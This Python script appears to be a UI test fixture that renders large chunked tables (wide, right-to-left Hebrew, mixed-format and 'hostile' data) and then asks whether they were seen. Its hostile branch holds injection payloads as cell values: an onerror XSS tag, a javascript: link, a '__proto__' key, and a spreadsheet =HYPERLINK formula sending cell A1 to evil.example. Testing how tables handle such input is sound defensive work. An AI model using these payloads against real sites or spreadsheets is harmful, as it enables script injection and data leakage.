"""Long tables, in chunks, and cells that nobody expects; then a question."""

from datetime import date, timedelta

from yera import arguments, ask, say

what, count = arguments["what"], arguments["rows"]
CHUNK = 2000


def table(columns, row, **more):
    for first in range(0, count, CHUNK):
        rows = [row(n) for n in range(first, min(count, first + CHUNK))]
        if first == 0:
            say("table", id="grid", columns=columns, rows=rows, border=True, **more)
        else:
            say("table", id="grid", rows=rows, append=True)


if what == "wide":
    table([f"Column {n}" for n in range(count)], lambda n: [n * c for c in range(count)])
elif what == "rtl":
    table(["מספר", "עיר", "הערה"], lambda n: [n, ["ירושלים", "חיפה", "London"][n % 3], f"שורה {n} מתוך {count}"])
elif what == "hostile":
    cells = [
        "<img src=x onerror=\"document.title='taken'\">",
        "=HYPERLINK(\"https://evil.example/?\"&A1)",
        "\u202eright to left\u202c",
        "nul \0 and bell \x07",
        "m" * 800_000,
        "two\nlines, and \"quotes\"",
        {"a": [1, None]},
        None,
        "javascript:alert(1)",
    ]
    table(["Text", "__proto__", "Link"], lambda n: [cells[n] if n < len(cells) else n, -n, cells[n] if n < len(cells) and n != 4 else f"https://example.org/{n}"], formats={"Link": "link"})
else:
    cities = ["Oslo", "Århus", "Lagos", "Łódź", "Quito", "東京"]
    table(
        ["Number", "City", "Day", "Share", "Amount", "Note", "Left", "Right"],
        lambda n: [
            n,
            cities[n % 6],
            str(date(2020, 1, 1) + timedelta(days=n * 7919 % 3000)),
            n % 101 / 100,
            n * 37 % 100_003 - 50_000,
            f"note {n} of {count}" + (", which has more to say than there is room for in a line of the grid" if n % 50 == 7 else ""),
            n * n,
            None if n % 5 else "x",
        ],
        key="Number",
        formats={"Day": "date", "Share": "percent", "Amount": "number"},
    )
ask("text_input", label="Seen?")
